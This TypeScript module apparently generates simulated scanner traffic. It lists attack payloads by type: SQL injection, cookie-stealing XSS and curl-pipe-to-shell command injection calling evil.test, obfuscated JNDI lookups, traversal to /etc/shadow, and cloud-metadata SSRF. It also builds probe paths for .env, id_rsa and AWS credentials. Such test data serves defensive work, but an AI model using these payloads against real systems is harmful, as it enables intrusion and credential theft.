import { hashOf } from '../random.ts';

/** What tools send, in their own spelling. */
export const PAYLOADS = {
  sqli: ["1' OR '1'='1", "1 AND 1=1 UNION ALL SELECT NULL,NULL,NULL-- -", "1' AND SLEEP(5)-- -", "1; DROP TABLE users--", "1) AND 5232=CAST((CHR(113)||CHR(107))||(SELECT (CASE WHEN (5232=5232) THEN 1 ELSE 0 END))::text AS NUMERIC)-- x", "1' AND (SELECT 4564 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT (ELT(4564=4564,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- x", "-1 UNION SELECT username,password FROM users", "1' ORDER BY 10-- -", "'; WAITFOR DELAY '0:0:5'--", "1/**/UNION/**/SELECT/**/@@version"], // prettier-ignore
  xss: ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.domain)>', "<svg/onload=alert('xss')>", 'javascript:alert(1)//', '<iframe src="javascript:alert(1)">', "'\"><script>fetch('//evil.test/'+document.cookie)</script>"], // prettier-ignore
  traversal: ['../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '....//....//....//etc/passwd', '/etc/shadow', '../../../../proc/self/environ', 'php://filter/convert.base64-encode/resource=index.php'], // prettier-ignore
  command: ['; cat /etc/passwd', '|id', '`id`', '$(curl http://evil.test/x.sh|sh)', '& ping -c 10 127.0.0.1 &', ';sleep 5;'], // prettier-ignore
  ssti: ['{{7*7}}', '${7*7}', '{{config.items()}}', "<%= 7*7 %>", "{{''.__class__.__mro__[1].__subclasses__()}}", '#{7*7}'], // prettier-ignore
  ssrf: ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://metadata.google.internal/computeMetadata/v1/', 'gopher://127.0.0.1:6379/_INFO', 'file:///etc/passwd', 'http://localhost:8001/consumers'], // prettier-ignore
  nosqli: ['{"$ne":null}', '{"$gt":""}', "';return true;var x='", '{"$where":"sleep(5000)"}'],
  crlf: ['x\r\nSet-Cookie: admin=true', 'x\r\n\r\n<html>', '\r\nLocation: http://evil.test'],
  jndi: ['${jndi:ldap://evil.test/a}', '${${lower:j}ndi:${lower:l}dap://evil.test/a}', '${jndi:dns://x.evil.test}', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.test/z}'], // prettier-ignore
} as const;

const WORDS = ['admin', 'backup', 'config', 'old', 'test', 'dev', 'api', 'db', 'private', 'upload', 'tmp', 'logs', 'cgi-bin', 'include', 'scripts', 'server', 'shop', 'user', 'web', 'data', 'export', 'stats', 'portal', 'secret', 'staging', 'static', 'wp-content', 'vendor', 'node_modules', 'assets', 'conf', 'install', 'setup', 'mail', 'ftp', 'cache', 'docs', 'archive', 'beta', 'demo']; // prettier-ignore
const FIRST = ['/.git/config', '/.env', '/.git/HEAD', '/.svn/entries', '/.htaccess', '/wp-login.php', '/robots.txt', '/server-status', '/phpinfo.php', '/.DS_Store', '/backup.zip', '/config.php.bak', '/id_rsa', '/docker-compose.yml', '/.aws/credentials']; // prettier-ignore
const ENDS = ['', '.php', '.bak', '.zip', '/', '.json', '.txt', '.old', '.sql', '.tar.gz', '.asp', '.jsp'];

/** Path `i` of a list that differs by `salt`: the classics first, as the tools have them. */
export const wordPath = (i: number, salt: number): string => {
  const h = hashOf(`${salt}/${i}`);
  if (i < FIRST.length) return FIRST[(i + salt) % FIRST.length] ?? '/.env';
  const word = WORDS[h % WORDS.length] ?? 'admin';
  const end = ENDS[(h >>> 8) % ENDS.length] ?? '';
  return i % 3 === 0 ? `/${word}/${WORDS[(h >>> 12) % WORDS.length]}${i}${end}` : `/${word}${i}${end}`;
};
